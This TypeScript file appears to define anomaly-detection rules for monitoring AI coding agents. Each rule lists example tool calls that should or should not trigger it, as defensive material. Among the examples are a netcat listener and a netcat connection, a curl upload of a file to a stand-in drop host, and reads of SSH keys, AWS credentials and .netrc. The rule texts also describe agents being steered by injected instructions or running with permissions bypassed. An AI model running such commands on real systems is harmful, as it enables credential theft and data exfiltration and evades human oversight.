import type { BaselineRule, ExampleCall } from './rule.ts';

const LOOK =
  'If the work explains it, acknowledge the finding: what was new is then learned as usual. If it does not, stop the session and look at what it did.';
const TRIAGE = 'What the run was asked to do, and the first call that is new.';
const REFERENCES = ['https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications-for-2026/'];
const BASE = {
  on: 'baseline',
  severity: 'low',
  confidence: 'low',
  triage: TRIAGE,
  advice: LOOK,
  references: REFERENCES,
} as const;

const ORDINARY: readonly ExampleCall[] = [
  { shell: 'git status' },
  { shell: 'npm test' },
  { read: '/home/dev/app/src/a.ts' },
];

/**
 * Deviations from what is usual, in the order of the catalogue. A run is told for all of them together, under the rule
 * of its strongest one; `pipeline/baseline` has the mathematics, `docs/baseline.md` tells it.
 */
export const BASELINE_RULES: readonly BaselineRule[] = [
  {
    ...BASE,
    code: 'D-01',
    id: 'baseline.new-tool',
    title: 'Agent uses tools that are not usual for it',
    why: 'A tool that was never needed before can be the work of an instruction that did not come from you.',
    falsePositives: ['a newly installed MCP server', 'a new kind of task'],
    taxonomies: { attack: [], atlas: [], owasp: ['ASI02', 'ASI10'] },
    bundles: ['MON', 'ACC'],
    examples: {
      hit: [
        {
          name: 'a tool of a server that was used for other things only',
          usual: [{ mcp: 'db', tool: 'query' }, ...ORDINARY],
          then: [{ mcp: 'db', tool: 'drop_table' }],
        },
        { name: 'a web tool where none was used', then: [{ fetch: 'https://example.com/a' }] },
      ],
      miss: [
        {
          name: 'the tools of every day',
          guards: 'ordinary work',
          usual: [{ mcp: 'db', tool: 'query' }, ...ORDINARY],
          then: [{ mcp: 'db', tool: 'query' }, { shell: 'git status' }],
        },
        {
          name: 'a usual tool, used for something new',
          guards: 'counting one novelty in two places',
          then: [{ read: '/home/dev/app/src/new.ts' }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-02',
    id: 'baseline.new-verb',
    title: 'Agent runs commands that are not usual for it',
    why: 'Attackers bring their own commands; the ones of daily work repeat.',
    falsePositives: ['a first release or migration', 'a new tool chain'],
    taxonomies: { attack: ['T1059'], atlas: [], owasp: ['ASI02', 'ASI10'] },
    bundles: ['MON'],
    examples: {
      hit: [
        { name: 'a network tool of attackers', then: [{ shell: 'nc -l 4444' }] },
        { name: 'a new verb of a usual program', then: [{ shell: 'git filter-branch --all' }] },
      ],
      miss: [
        {
          name: 'a usual command with other arguments',
          guards: 'arguments, which are new all the time',
          then: [{ shell: 'npm test -- --run other' }],
        },
        {
          name: 'a new command of somebody who has one every day',
          guards: 'punishing those who explore',
          exploring: true,
          then: [{ shell: 'newthing --help' }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-03',
    id: 'baseline.new-destination',
    title: 'Agent talks to hosts or repositories that are not usual for it',
    why: 'Data leaves, and foreign instructions come in, through places that were not used before.',
    falsePositives: ['a new dependency or service', 'reading documentation'],
    taxonomies: { attack: ['T1071'], atlas: [], owasp: ['ASI10'] },
    bundles: ['MON', 'DLP'],
    examples: {
      hit: [
        {
          name: 'an upload to a host nobody used',
          then: [{ shell: 'curl -T a.txt https://drop.example.net/a' }],
        },
        { name: 'an address without a name', then: [{ shell: 'curl http://192.0.2.7/x' }] },
      ],
      miss: [
        {
          name: 'another name of a usual domain',
          guards: 'hosts that come and go within one service',
          usual: [{ fetch: 'https://a.example.com/' }, ...ORDINARY],
          then: [{ fetch: 'https://b.example.com/' }],
        },
        {
          name: 'a server on this machine',
          guards: 'local work',
          usual: [{ shell: 'curl http://localhost:3000/' }, ...ORDINARY],
          then: [{ shell: 'curl http://127.0.0.1:8080/' }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-04',
    id: 'baseline.new-path-class',
    title: 'Agent touches kinds of files it does not usually touch',
    why: 'Work stays in the project. Secrets, start-up files and other projects are what an attacker looks for.',
    falsePositives: ['setting up a machine', 'debugging the tool chain'],
    taxonomies: { attack: ['T1083', 'T1552'], atlas: [], owasp: ['ASI03', 'ASI10'] },
    bundles: ['MON', 'SEC'],
    examples: {
      hit: [
        { name: 'a private key', then: [{ read: '/home/dev/.ssh/id_ed25519' }] },
        { name: 'a start-up file of the shell', then: [{ write: '/home/dev/.bashrc', content: 'x' }] },
      ],
      miss: [
        {
          name: 'a new file of the project',
          guards: 'ordinary work',
          then: [{ write: '/home/dev/app/src/b.ts', content: 'x' }],
        },
        {
          name: 'environment files where they are read every day',
          guards: 'what is usual here',
          usual: [{ read: '/home/dev/app/.env' }, ...ORDINARY],
          then: [{ read: '/home/dev/app/packages/api/.env' }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-05',
    id: 'baseline.volume',
    title: 'Agent works at an unusual pace, and does unusual things',
    why: 'A burst of calls or tokens is how a loop, a sweep or a takeover looks from outside.',
    falsePositives: ['a large refactoring', 'a batch job'],
    taxonomies: { attack: [], atlas: ['AML.T0034'], owasp: ['ASI08', 'ASI10'] },
    bundles: ['MON'],
    examples: {
      hit: [
        { name: 'eighty calls in two minutes', everyMs: 1_500, then: [{ shell: 'git status', times: 80 }] },
        {
          name: 'a sweep through files',
          everyMs: 1_000,
          then: [{ read: '/home/dev/app/src/a.ts', times: 100 }],
        },
      ],
      miss: [
        {
          name: 'a few more calls than usual',
          guards: 'ordinary spread',
          then: [{ shell: 'git status', times: 8 }],
        },
        {
          name: 'many calls over a long time',
          guards: 'long runs',
          everyMs: 60_000,
          then: [{ shell: 'git status', times: 60 }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-06',
    id: 'baseline.time',
    title: 'Agent works at unusual hours, and does unusual things',
    why: 'Work at an hour when nobody sits there is seen by nobody.',
    falsePositives: ['a release at night', 'travel', 'a scheduled job'],
    taxonomies: { attack: [], atlas: [], owasp: ['ASI10'] },
    bundles: ['MON'],
    examples: {
      hit: [
        { name: 'three in the morning', hour: 3, then: ORDINARY },
        { name: 'late in the evening', hour: 22, then: ORDINARY },
      ],
      miss: [
        { name: 'the usual hour', guards: 'ordinary work', then: ORDINARY },
        { name: 'an hour later than usual', guards: 'days that begin later', hour: 11, then: ORDINARY },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-07',
    id: 'baseline.errors-denials',
    title: 'Agent fails or is denied more than usual, and does unusual things',
    why: 'Many denials are how somebody feels for what is allowed.',
    falsePositives: ['a broken build', 'new permission rules'],
    taxonomies: { attack: [], atlas: [], owasp: ['ASI02', 'ASI10'] },
    bundles: ['MON'],
    examples: {
      hit: [
        {
          name: 'denied again and again',
          then: [{ shell: 'git status', times: 25, result: { status: 'denied' } }],
        },
        {
          name: 'nothing works any more',
          then: [{ shell: 'npm test', times: 40, result: { status: 'error' } }],
        },
      ],
      miss: [
        {
          name: 'one failing test',
          guards: 'ordinary work',
          then: [
            { shell: 'git status', times: 15, result: { status: 'ok' } },
            { shell: 'npm test', result: { status: 'error' } },
          ],
        },
        {
          name: 'failures where half of all calls fail',
          guards: 'projects whose tests fail all day',
          usual: [
            { shell: 'npm test', times: 6, result: { status: 'error' } },
            { shell: 'git status', times: 6, result: { status: 'ok' } },
          ],
          then: [
            { shell: 'npm test', times: 9, result: { status: 'error' } },
            { shell: 'git status', times: 6, result: { status: 'ok' } },
          ],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-08',
    id: 'baseline.new-component',
    title: 'Agent uses a server or model that is not usual for it',
    why: 'A new component sees what the agent sees. It should be one that somebody chose.',
    falsePositives: ['a new model version', 'a server installed on purpose'],
    taxonomies: { attack: ['T1195'], atlas: ['AML.T0010'], owasp: ['ASI04'] },
    bundles: ['MON', 'INV', 'SUP'],
    examples: {
      hit: [
        { name: 'an MCP server nobody used before', then: [{ mcp: 'helper', tool: 'run' }] },
        { name: 'another model', model: 'other-model-1', then: ORDINARY },
      ],
      miss: [
        { name: 'the usual model', guards: 'ordinary work', model: 'model-1', then: ORDINARY },
        {
          name: 'the usual server',
          guards: 'ordinary work',
          usual: [{ mcp: 'db', tool: 'query' }, ...ORDINARY],
          then: [{ mcp: 'db', tool: 'query' }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-09',
    id: 'baseline.tree-shape',
    title: 'Agent starts more sub-agents than usual, and does unusual things',
    why: 'Many helpers multiply what goes wrong and make it harder to follow.',
    falsePositives: ['a research task', 'a new orchestration'],
    taxonomies: { attack: [], atlas: [], owasp: ['ASI08', 'ASI10'] },
    bundles: ['MON'],
    examples: {
      hit: [
        { name: 'twelve sub-agents where there were none', then: [{ task: 'look', times: 12 }] },
        {
          name: 'twenty where there was one',
          usual: [{ task: 'look' }, ...ORDINARY],
          then: [{ task: 'look', times: 20 }],
        },
      ],
      miss: [
        {
          name: 'one sub-agent',
          guards: 'ordinary work',
          usual: [{ task: 'look' }, ...ORDINARY],
          then: [{ task: 'look' }],
        },
        {
          name: 'eight where there are six every day',
          guards: 'orchestrated work',
          usual: [{ task: 'look', times: 6 }, ...ORDINARY],
          then: [{ task: 'look', times: 8 }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-10',
    id: 'baseline.sequence-rarity',
    title: 'Agent works in an unusual order around something sensitive',
    why: 'Each step may be ordinary; fetched text, then a secret, then something published is a story.',
    falsePositives: ['a release', 'a rotation of keys'],
    taxonomies: { attack: ['T1020'], atlas: [], owasp: ['ASI01', 'ASI10'] },
    bundles: ['MON', 'DLP'],
    examples: {
      hit: [
        {
          name: 'a page, a secret, a command',
          then: [
            { fetch: 'https://example.com/a' },
            { read: '/home/dev/.aws/credentials' },
            { shell: 'npm test' },
          ],
        },
        {
          name: 'a secret, a change, a run',
          then: [
            { read: '/home/dev/.netrc' },
            { write: '/home/dev/app/a.sh', content: 'x' },
            { shell: 'npm test' },
          ],
        },
      ],
      miss: [
        {
          name: 'a new order of steps without anything sensitive',
          guards: 'orders, which are new all the time',
          then: [
            { fetch: 'https://example.com/a' },
            { write: '/home/dev/app/a.ts', content: 'x' },
            { shell: 'npm test' },
          ],
        },
        {
          name: 'the order of every day',
          guards: 'ordinary work with secrets',
          usual: [{ read: '/home/dev/app/.env' }, { shell: 'npm test' }, { read: '/home/dev/app/src/a.ts' }],
          then: [{ read: '/home/dev/app/.env' }, { shell: 'npm test' }, { read: '/home/dev/app/src/a.ts' }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-11',
    id: 'baseline.identity-change',
    title: 'Agent runs under another account',
    severity: 'medium',
    why: 'Another account may have other rights, other rules and another owner.',
    triage: 'Whose account it is, and who signed in.',
    falsePositives: ['a second account of the same person'],
    taxonomies: { attack: ['T1078'], atlas: [], owasp: ['ASI03'] },
    bundles: ['MON', 'ACC'],
    examples: {
      hit: [
        { name: 'an account nobody used here', account: 'mallory@example.net', then: ORDINARY },
        { name: 'an account of another organisation', account: 'dev@example.org', then: ORDINARY },
      ],
      miss: [
        { name: 'the usual account', guards: 'ordinary work', account: 'dev@example.com', then: ORDINARY },
        { name: 'no account told', guards: 'logs that do not name it', then: ORDINARY },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-12',
    id: 'baseline.autonomy-shift',
    title: 'Agent is supervised less than usual, and does unusual things',
    why: 'With fewer questions asked, a mistake or an injected instruction goes further before anybody sees it.',
    falsePositives: ['a long task given on purpose'],
    taxonomies: { attack: [], atlas: [], owasp: ['ASI09', 'ASI10'] },
    bundles: ['MON', 'OVR'],
    examples: {
      hit: [
        { name: 'approvals switched off', mode: 'bypassPermissions', then: ORDINARY },
        {
          name: 'two hundred calls without a word from a person',
          everyMs: 30_000,
          then: [{ shell: 'git status', times: 200 }],
        },
      ],
      miss: [
        { name: 'the usual mode', guards: 'ordinary work', mode: 'default', then: ORDINARY },
        {
          name: 'a turn a little longer than usual',
          guards: 'ordinary spread',
          then: [{ shell: 'git status', times: 8 }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-13',
    id: 'baseline.peer-outlier',
    title: 'A project stands out among the others for days',
    why: 'What is unusual compared with all other work of the same person, again and again, is worth one look.',
    falsePositives: ['the only project of its kind'],
    taxonomies: { attack: [], atlas: [], owasp: ['ASI10'] },
    bundles: ['MON'],
    examples: {
      hit: [
        {
          name: 'strange work on two days, in one of five projects',
          elsewhere: 4,
          twice: true,
          then: [{ read: '/home/dev/.ssh/id_ed25519' }, { shell: 'nc drop.example.net 443' }],
        },
        {
          name: 'a new server and a new mode on two days',
          elsewhere: 4,
          twice: true,
          mode: 'bypassPermissions',
          then: [{ mcp: 'helper', tool: 'run' }, { read: '/home/dev/.netrc' }],
        },
      ],
      miss: [
        {
          name: 'strange work on one day',
          guards: 'one-time tasks',
          elsewhere: 4,
          then: [{ read: '/home/dev/.ssh/id_ed25519' }, { shell: 'nc drop.example.net 443' }],
        },
        {
          name: 'the only project',
          guards: 'comparing with nothing',
          twice: true,
          then: [{ read: '/home/dev/.ssh/id_ed25519' }, { shell: 'nc drop.example.net 443' }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-14',
    id: 'baseline.dormant-return',
    title: 'A server or secret that was not used for long is used again',
    why: 'What nobody uses nobody watches; a forgotten server or key is a favourite way in.',
    falsePositives: ['a yearly task', 'a project taken up again'],
    taxonomies: { attack: ['T1078'], atlas: [], owasp: ['ASI03', 'ASI10'] },
    bundles: ['MON', 'ACC'],
    examples: {
      hit: [
        {
          name: 'a secret of two months ago',
          early: [{ read: '/home/dev/.netrc' }],
          then: [{ read: '/home/dev/.netrc' }],
        },
        {
          name: 'a server of two months ago',
          early: [{ mcp: 'db', tool: 'query' }],
          then: [{ mcp: 'db', tool: 'query' }],
        },
      ],
      miss: [
        {
          name: 'a secret that is read every day',
          guards: 'ordinary work',
          usual: [{ read: '/home/dev/.netrc' }, ...ORDINARY],
          then: [{ read: '/home/dev/.netrc' }],
        },
        {
          name: 'a command of two months ago',
          guards: 'commands, which come and go',
          early: [{ shell: 'make lint' }],
          then: [{ shell: 'make lint' }],
        },
      ],
    },
  },
];

const BY_CODE: ReadonlyMap<string, BaselineRule> = new Map(BASELINE_RULES.map((one) => [one.code, one]));

/** The rule of a catalogue number. @throws when there is none: our bug */
export function baselineRule(code: string): BaselineRule {
  const found = BY_CODE.get(code);
  if (found === undefined) throw new Error(`no baseline rule ${code}`);
  return found;
}
